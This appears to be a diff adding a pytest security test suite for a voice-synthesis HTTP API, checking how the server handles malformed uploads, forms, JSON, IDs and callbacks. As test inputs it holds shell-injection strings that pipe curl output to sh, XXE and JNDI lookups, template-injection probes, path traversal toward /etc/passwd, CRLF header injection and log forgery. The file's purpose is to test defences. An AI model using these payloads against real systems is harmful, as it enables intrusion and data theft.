@@ -1,0 +1,339 @@
+"""Every file, text and body that a server must refuse or take, each by its row of the list of bad input."""
+
+from __future__ import annotations
+
+import re
+import socket
+from collections.abc import Iterator
+
+import httpx
+import numpy as np
+import pytest
+
+from afterwords.riff import REFERENCE_MAX_BYTES, canonical_wav, read_wav
+from afterwords.text import longest_speech_s
+from tests.e2e.served import Served, final, register, serving
+from tests.e2e.wire import Answer, ask
+from tests.test_riff import BAD, DATA, GOOD, GOOD_FILES, RATE, SIX_SECONDS, chunk, fmt, riff, tone
+
+CALLBACK_SECRET = "a-callback-secret-that-workers-share"
+JSON = ("Content-Type", "application/json")
+LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (INFO|WARNING|ERROR) \S")
+NOBODY = "00000000-0000-4000-8000-000000000000"
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    settings = {"AFTERWORDS_CALLBACK_SECRET": CALLBACK_SECRET}
+    with serving(tmp_path_factory.mktemp("input") / "home", settings) as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def client(served: Served) -> Iterator[httpx.Client]:
+    with served.client() as client:
+        yield client
+
+
+@pytest.fixture(scope="module")
+def voice_id(client: httpx.Client) -> str:
+    return register(client)
+
+
+def upload(client: httpx.Client, wav: bytes, *, kind: str = "audio/wav", filename: str = "me.wav") -> httpx.Response:
+    return client.post("/v1/voices", data={"name": "me"}, files={"ref_audio": (filename, wav, kind)})
+
+
+def refusal(answer: httpx.Response | Answer) -> tuple[int, str]:
+    """Status and code of a refusal, whose shape is checked."""
+    if isinstance(answer, Answer):
+        return answer.status, answer.code
+    error = answer.json()["error"]
+    assert set(error) == {"code", "message", "type", "param", "request_id"}
+    return answer.status_code, error["code"]
+
+
+class TestRecordings:
+    @pytest.mark.parametrize("name", BAD)
+    def test_a_bad_file_is_refused_with_its_code(self, client: httpx.Client, name: str) -> None:
+        code, make = BAD[name]
+        assert refusal(upload(client, make())) == (422, code)
+
+    @pytest.mark.parametrize("name", GOOD_FILES)
+    def test_a_good_file_is_taken_with_equal_sound(self, served: Served, client: httpx.Client, name: str) -> None:
+        answer = upload(client, GOOD_FILES[name]())
+        assert answer.status_code == 201, answer.text
+        kept = served.home / "server" / "blobs" / "voices" / answer.json()["voice_id"] / "ref.wav"
+        samples, rate = read_wav(kept.read_bytes())
+        assert rate == RATE
+        np.testing.assert_allclose(samples, SIX_SECONDS, atol=1 / 32_000)
+
+    @pytest.mark.parametrize("duration_s", [5, 60])
+    def test_limits_of_length_belong_to_what_is_taken(self, client: httpx.Client, duration_s: int) -> None:
+        assert upload(client, canonical_wav(tone(duration_s), RATE)).status_code == 201
+
+    def test_a_file_of_exactly_20_mib_is_taken(self, client: httpx.Client) -> None:
+        wav = riff(fmt(), chunk(b"JUNK", bytes(REFERENCE_MAX_BYTES - len(GOOD) - 8)), DATA)
+        assert len(wav) == REFERENCE_MAX_BYTES
+        assert upload(client, wav).status_code == 201
+
+    @pytest.mark.parametrize("kind", ["audio/wav", "audio/x-wav", "audio/wave", "application/octet-stream"])
+    def test_usual_content_types_are_taken(self, client: httpx.Client, kind: str) -> None:
+        assert upload(client, GOOD, kind=kind).status_code == 201
+
+    @pytest.mark.parametrize("kind", ["text/plain", "audio/flac", "image/png"])
+    def test_another_content_type_is_refused(self, client: httpx.Client, kind: str) -> None:
+        assert refusal(upload(client, GOOD, kind=kind)) == (422, "bad_content_type")
+
+    def test_the_name_of_the_file_means_nothing(self, served: Served, client: httpx.Client) -> None:
+        before = {path for path in served.home.parent.rglob("*") if path.suffix == ".wav"}
+        made = upload(client, GOOD, filename="../../../evil.wav").json()["voice_id"]
+        after = {path for path in served.home.parent.rglob("*") if path.suffix == ".wav"}
+        assert after - before == {served.home / "server" / "blobs" / "voices" / made / "ref.wav"}
+
+
+class TestForms:
+    HEAD = b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nme\r\n'
+    FILE = (
+        b'--b\r\nContent-Disposition: form-data; name="ref_audio"; filename="x"\r\nContent-Type: audio/wav\r\n\r\n'
+        + GOOD
+        + b"\r\n"
+    )
+
+    @pytest.mark.parametrize(
+        ("kind", "body"),
+        [
+            ("multipart/form-data", HEAD + FILE + b"--b--\r\n"),
+            ("multipart/form-data; boundary=", HEAD + FILE + b"--b--\r\n"),
+            ("multipart/form-data; boundary=other", HEAD + FILE + b"--b--\r\n"),
+            ("multipart/form-data; boundary=b", HEAD + FILE),
+            ("multipart/form-data; boundary=b", HEAD + FILE + FILE + b"--b--\r\n"),
+            (
+                "multipart/form-data; boundary=b",
+                HEAD + b'--b\r\nContent-Disposition: form-data; name="ref_audio"\r\n\r\nhi\r\n--b--\r\n',
+            ),
+            ("multipart/form-data; boundary=b", HEAD.replace(b"me", b"\xff") + FILE + b"--b--\r\n"),
+            ("multipart/form-data; boundary=b", b""),
+            ("application/json", b'{"name": "me"}'),
+            ("application/x-www-form-urlencoded", b"name=me"),
+        ],
+        ids=["no boundary", "empty boundary", "other boundary", "unterminated", "two files", "file as text", "UTF-8",
+             "nothing", "JSON", "urlencoded"],
+    )  # fmt: skip
+    def test_what_is_no_such_form_is_refused(self, client: httpx.Client, kind: str, body: bytes) -> None:
+        answer = client.post("/v1/voices", content=body, headers={"Content-Type": kind})
+        assert refusal(answer) == (400, "invalid_multipart")
+
+    def test_the_same_form_whole_is_taken(self, client: httpx.Client) -> None:
+        kind = {"Content-Type": "multipart/form-data; boundary=b"}
+        assert client.post("/v1/voices", content=self.HEAD + self.FILE + b"--b--\r\n", headers=kind).status_code == 201
+
+
+class TestTexts:
+    def say(self, client: httpx.Client, voice_id: str, text: str) -> httpx.Response:
+        return client.post("/v1/synthesize", json={"voice_id": voice_id, "text": text})
+
+    @pytest.mark.parametrize("text", ["...", "!?" * 2_500, "\u3002" * 5_000, "—" * 5_000, "\u0301" * 100])
+    def test_punctuation_alone_is_refused_or_bounded(self, client: httpx.Client, voice_id: str, text: str) -> None:
+        answer = self.say(client, voice_id, text)
+        if answer.status_code == 422:
+            assert refusal(answer) == (422, "empty_text")
+            return
+        job = final(client, answer.json()["job_id"])
+        audio = client.get(f"/v1/jobs/{job['job_id']}/audio")
+        samples, rate = read_wav(audio.content)
+        assert len(samples) / rate <= longest_speech_s(text)
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            '<speak><audio src="http://{here}/x.wav"/>hi<break time="9999s"/></speak>',
+            "<script>fetch('http://{here}/')</script>",
+            '<!DOCTYPE x [<!ENTITY y SYSTEM "http://{here}/z">]><x>&y;</x>',
+            "{{{{ 7 * 7 }}}} ${{jndi:ldap://{here}/x}} #{{7*7}} <%= 7 * 7 %> %(name)s {{0.__class__}}",
+            "$(curl http://{here}/) `curl http://{here}/` ; curl http://{here}/ | sh",
+        ],
+        ids=["SSML", "script", "XML", "templates", "shell"],
+    )
+    def test_markup_is_spoken_letter_by_letter_and_never_run(
+        self, client: httpx.Client, voice_id: str, text: str
+    ) -> None:
+        with socket.create_server(("127.0.0.1", 0)) as listening:
+            text = text.format(here=f"127.0.0.1:{listening.getsockname()[1]}")
+            job = final(client, self.say(client, voice_id, text).json()["job_id"])
+            listening.setblocking(False)
+            with pytest.raises(BlockingIOError):
+                listening.accept()
+        samples, rate = read_wav(client.get(f"/v1/jobs/{job['job_id']}/audio").content)
+        assert len(samples) == pytest.approx(0.06 * len(text) * rate, abs=2)  # as the tone engine speaks any text
+
+    @pytest.mark.parametrize(
+        "raw", [rb"a\ud800b", rb"\udc00", rb"\ud800\ud800", rb"\ud83dx", rb"\ude00\ud83d"], ids=lambda raw: raw.decode()
+    )
+    def test_half_a_character_is_refused(self, client: httpx.Client, voice_id: str, raw: bytes) -> None:
+        body = b'{"voice_id": "%s", "text": "%s"}' % (voice_id.encode(), raw)
+        answer = client.post("/v1/synthesize", content=body, headers=dict([JSON]))
+        assert refusal(answer) == (422, "invalid_unicode")
+
+    def test_escapes_for_both_halves_are_one_character(self, client: httpx.Client, voice_id: str) -> None:
+        body = rb'{"voice_id": "%s", "text": "hi \ud83d\ude00"}' % voice_id.encode()
+        assert client.post("/v1/synthesize", content=body, headers=dict([JSON])).status_code == 202
+
+
+class TestJson:
+    @pytest.mark.parametrize(
+        ("body", "expected"),
+        [
+            (b'{"voice_id": "%s", "text": NaN}', (422, "invalid_field")),
+            (b'{"voice_id": "%s", "text": 1e400}', (422, "invalid_field")),
+            (b'{"voice_id": "%s", "text": "a", "speed": NaN}', (422, "invalid_field")),
+            (b'{"voice_id": "%s", "text": "a", "speed": 1e400}', (422, "invalid_field")),
+            (b'{"voice_id": "%s", "text": "a", "speed": -Infinity}', (422, "invalid_field")),
+            (b'{"voice_id": "%s", "text": "a", "speed": "1"}', (422, "invalid_field")),
+            (b'{"voice_id": "%s", "text": "a", "stream": 1}', (422, "invalid_field")),
+            (b'{"voice_id": "%s", "text": null}', (422, "invalid_field")),
+            (b'{"voice_id": "%s", "text": ["a"]}', (422, "invalid_field")),
+            (b'{"voice_id": "%s", "text": "a", "seed": ' + b"9" * 5_000 + b"}", (400, "invalid_json")),
+            (b'{"voice_id": "%s", "text": "\xff"}', (400, "invalid_json")),
+            (b'{"voice_id": "%s", "text": "\xed\xa0\x80"}', (400, "invalid_json")),
+            (b'{"voice_id": "%s", "text": "a"', (400, "invalid_json")),
+            (b'{"voice_id": "%s"}', (400, "missing_field")),
+            (b"[" * 100_000, (400, "invalid_json")),
+            (b"[" * 50_000 + b"]" * 50_000, (400, "invalid_json")),
+            (b'{"text": ' * 10_000, (400, "invalid_json")),
+            (b"[]", (400, "invalid_json")),
+            (b"null", (400, "invalid_json")),
+            (b'"text"', (400, "invalid_json")),
+            (b"5", (400, "invalid_json")),
+            (b"", (400, "invalid_json")),
+            (b'\xef\xbb\xbf{"text": "a"}', (400, "invalid_json")),
+            ('{"text": "a"}'.encode("utf-16"), (400, "invalid_json")),
+        ],
+        ids=lambda value: repr(value)[:40] if isinstance(value, bytes) else "",
+    )
+    def test_a_body_that_is_not_what_was_asked_for_is_refused(
+        self, client: httpx.Client, voice_id: str, body: bytes, expected: tuple[int, str]
+    ) -> None:
+        content = body.replace(b"%s", voice_id.encode())
+        assert refusal(client.post("/v1/synthesize", content=content, headers=dict([JSON]))) == expected
+
+    @pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "application/jsonp", ""])
+    def test_another_content_type_is_refused(self, client: httpx.Client, kind: str) -> None:
+        answer = client.post(
+            "/v1/synthesize", content=b'{"voice_id": "x", "text": "a"}', headers={"Content-Type": kind}
+        )
+        assert refusal(answer) == (400, "invalid_json")
+
+    @pytest.mark.parametrize("n_bytes", [128 * 1024 + 1, 60_000_000])
+    @pytest.mark.parametrize("is_announced", [True, False])
+    def test_a_body_that_is_too_large_is_refused(self, served: Served, n_bytes: int, is_announced: bool) -> None:
+        key = ("Authorization", f"Bearer {served.key}")
+        text = b'{"text": "%s"}' % (b"a" * (n_bytes - 12))
+        if is_announced:
+            answer = ask(served, "POST", "/v1/synthesize", [key, JSON, ("Content-Length", str(len(text)))], text)
+        else:
+            body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(text), text)
+            answer = ask(served, "POST", "/v1/synthesize", [key, JSON, ("Transfer-Encoding", "chunked")], body)
+        assert (answer.status, answer.code) == (413, "request_too_large")
+
+    def test_a_body_of_exactly_128_kib_is_read(self, client: httpx.Client, voice_id: str) -> None:
+        body = b'{"voice_id": "%s", "text": "%s"}' % (voice_id.encode(), b"a" * (128 * 1024 - 64))
+        assert len(body) == 128 * 1024
+        assert refusal(client.post("/v1/synthesize", content=body, headers=dict([JSON]))) == (422, "text_too_long")
+
+    @pytest.mark.parametrize("value", ["NaN", "1e400", "-Infinity", '[{"b": 1e999}]', '"a\\u0000"', '"a\\\\\\u0000"'])
+    def test_metadata_that_json_can_not_carry_on_is_refused(
+        self, client: httpx.Client, voice_id: str, value: str
+    ) -> None:
+        body = f'{{"metadata": {{"a": {value}}}}}'
+        answer = client.patch(f"/v1/voices/{voice_id}", content=body, headers=dict([JSON]))
+        assert refusal(answer) == (422, "invalid_field")
+
+    def test_metadata_of_any_other_kind_comes_back(self, client: httpx.Client, voice_id: str) -> None:
+        metadata = {"a": [1.5, 10**30, None, True, {"\u202e": "\\u0000 \U0001f600"}], "": "<script>"}
+        assert client.patch(f"/v1/voices/{voice_id}", json={"metadata": metadata}).json()["metadata"] == metadata
+        bundle = client.get(f"/v1/voices/{voice_id}/export").content
+        brought = client.post("/v1/voices/import", content=bundle).json()["voice_id"]
+        assert client.get(f"/v1/voices/{brought}").json()["metadata"] == metadata
+
+
+class TestCallbacks:
+    @pytest.mark.parametrize(
+        "body",
+        [
+            b'{"job_id": "%s", "wav_b64": NaN}',
+            '{"job_id": "%s", "wav_b64": "ü"}'.encode(),
+            b'{"job_id": "%s", "wav_b64": 5}',
+            rb'{"job_id": "%s", "error": "\ud800"}',
+            b'{"job_id": 5}',
+            b"[]",
+            b"null",
+            b"",
+            b"[" * 100_000,
+            b"\xff",
+        ],
+        ids=lambda body: repr(body)[:30],
+    )
+    def test_what_is_no_result_is_refused(self, served: Served, client: httpx.Client, body: bytes) -> None:
+        voice = register(client)
+        job = client.post("/v1/synthesize", json={"voice_id": voice, "text": f"fault-slow {'a' * 1_000}"}).json()[
+            "job_id"
+        ]
+        with served.client(CALLBACK_SECRET) as worker:
+            answer = worker.post(f"/v1/jobs/{job}/complete", content=body.replace(b"%s", job.encode()))
+        client.delete(f"/v1/jobs/{job}")
+        assert answer.status_code in (400, 409, 422)  # 409: a worker has taken the job up in that moment
+        assert refusal(answer)[1] in ("invalid_json", "invalid_field", "missing_field", "stale_attempt")
+
+
+IDS = ["../", "..%2f..%2fetc%2fpasswd", "%00", "%ff", "%ed%a0%80", "%0d%0aX-Evil:%201", "a" * 60_000, "%2e%2e",
+       NOBODY.upper().replace("0", "A"), f"{NOBODY}%00", f"{NOBODY}%0a", " ", "*", "{id}", "0"]  # fmt: skip
+
+
+class TestIds:
+    @pytest.mark.parametrize("bad", IDS, ids=lambda bad: bad[:20])
+    @pytest.mark.parametrize(
+        ("method", "path"),
+        [
+            ("GET", "/v1/voices/{}"),
+            ("DELETE", "/v1/voices/{}"),
+            ("GET", "/v1/voices/{}/export"),
+            ("GET", "/v1/jobs/{}"),
+            ("GET", "/v1/jobs/{}/audio"),
+            ("DELETE", "/v1/keys/{}"),
+        ],
+    )
+    def test_what_is_no_id_is_not_found(self, served: Served, method: str, path: str, bad: str) -> None:
+        if bad == " ":
+            bad = "%20"
+        answer = ask(served, method, path.format(bad), [("Authorization", f"Bearer {served.key}")])
+        assert (answer.status, answer.error["type"]) == (404, "not_found_error")
+        assert answer.code in ("not_found", "voice_not_found", "job_not_found", "key_not_found")
+        assert "x-evil" not in answer.headers
+
+    @pytest.mark.parametrize("bad", ["../x", "\x00", "a" * 60_000, f"{NOBODY}\n"])
+    def test_a_voice_id_in_a_body_that_is_none_is_not_found(self, client: httpx.Client, bad: str) -> None:
+        answer = client.post("/v1/synthesize", json={"voice_id": bad, "text": "hi"})
+        assert refusal(answer) == (404, "voice_not_found")
+
+
+def test_nothing_that_is_sent_forges_a_line_of_the_log(served: Served, client: httpx.Client, voice_id: str) -> None:
+    forged = "hi\r\n2026-01-01 00:00:00,000 ERROR forged"
+    key = ("Authorization", f"Bearer {served.key}")
+    client.post("/v1/synthesize", json={"voice_id": voice_id, "text": forged})
+    client.post("/v1/synthesize", json={"voice_id": voice_id, "text": "hi", "lang": forged})
+    client.patch(f"/v1/voices/{voice_id}", json={"name": forged})
+    client.patch(f"/v1/voices/{voice_id}", json={"ref_text": forged, "metadata": {forged: forged}})
+    served.new_key(label=forged)
+    upload(client, GOOD, filename=forged)
+    ask(served, "GET", "/v1/voices/%0d%0a2026 ERROR forged".replace(" ", "%20"), [key])
+    ask(served, "GET", "/v1/voices?after=%0d%0aERROR%20forged", [key])
+    ask(served, "GET", "/v1/voices", [key, ("X-Request-Id", b"a\nERROR forged")])
+    ask(served, "GET", "/v1/voices", [key, ("User-Agent", b"a\r ERROR forged")])
+    ask(
+        served, "POST", "/v1/synthesize", [key, JSON, ("Idempotency-Key", b"\x0bERROR forged"), ("Content-Length", "0")]
+    )
+    ask(served, "ERROR", "/forged")
+    lines = served.log.read_text().partition("Ctrl-C stops it.\n")[2].splitlines()
+    assert not [line for line in lines if "forged" in line]
+    assert not [line for line in lines if not LINE.match(line)]
